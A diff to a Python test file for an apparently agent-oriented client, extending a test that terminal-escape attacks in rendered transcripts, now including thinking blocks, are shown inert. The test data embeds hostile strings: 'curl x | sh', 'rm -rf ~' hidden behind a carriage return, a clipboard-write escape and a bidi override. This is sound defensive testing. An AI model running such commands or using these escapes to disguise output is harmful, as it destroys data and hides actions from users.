@@ -18,6 +18,7 @@ from loopwright.client import run
 from loopwright.messages import (
     AssistantMessage,
     TextBlock,
+    ThinkingBlock,
     ToolResultBlock,
     ToolUseBlock,
     UserMessage,
@@ -83,12 +84,20 @@ def test_the_renderer_shows_model_text_thinking_tool_calls_and_results_inert() -
     call = ToolUseBlock("toolu_1", "Bash", {"command": HOSTILE})
     raw = _rendered(
         UserMessage(f"prompt {ATTACKS['osc 52 clipboard write']}"),
-        AssistantMessage([TextBlock(f"text {ATTACKS['c1 csi']}"), call], model="m"),
+        AssistantMessage(
+            [
+                ThinkingBlock(f"think {ATTACKS['bidi override']}"),
+                TextBlock(f"text {ATTACKS['c1 csi']}"),
+                call,
+            ],
+            model="m",
+        ),
         UserMessage([ToolResultBlock(call.id, f"out {ATTACKS['carriage return']}")]),
     )
     assert _content_escapes(raw) == []
     assert "curl x | sh #\\e[2K\\e[1Gecho hello" in raw
     assert "\\e]52;c;Y3VybCB4fHNo\\a" in raw and "\\x9b2K" in raw and "safe\\rrm -rf ~" in raw
+    assert "think \\u202eexe.txt" in raw
 
 
 def test_the_permission_prompt_shows_the_whole_command_with_its_escapes() -> None:
